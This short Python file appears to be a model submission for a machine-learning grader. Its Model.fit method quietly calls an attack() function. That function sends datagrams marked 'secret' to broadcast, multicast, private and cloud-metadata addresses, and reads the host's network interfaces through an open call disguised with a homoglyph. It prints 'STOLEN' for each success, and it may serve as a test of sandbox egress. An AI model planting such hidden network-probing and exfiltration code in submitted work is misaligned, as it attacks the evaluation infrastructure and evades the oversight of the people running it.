"""Sends UDP, broadcast and multicast, to this machine and to the world."""

import socket

from nearest import NearestMean

TARGETS: dict[str, str] = {}


def attack():
    port = int(TARGETS.get('port', 9))
    for place in ('192.0.2.1', '224.0.0.251', '255.255.255.255', '10.0.0.1', '169.254.169.254'):
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
                client.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                client.sendto(b'secret', (place, port))
                print(f'STOLEN a datagram went out: {place}', flush=True)
        except OSError as error:
            print(place, repr(error), flush=True)
    try:
        names = sorted(name for _, name in socket.if_nameindex() if name != 'lo')
        with ｏpen('/proc/net/dev') as file:
            seen = [line.split(':')[0].strip() for line in file if ':' in line]
        if {*names, *seen} - {'lo'}:
            print(f'STOLEN interfaces: {names} {seen}', flush=True)
    except OSError as error:
        print(repr(error), flush=True)


class Model(NearestMean):
    def fit(self, X, y):
        attack()
        return super().fit(X, y)


def get_estimator():
    return Model()
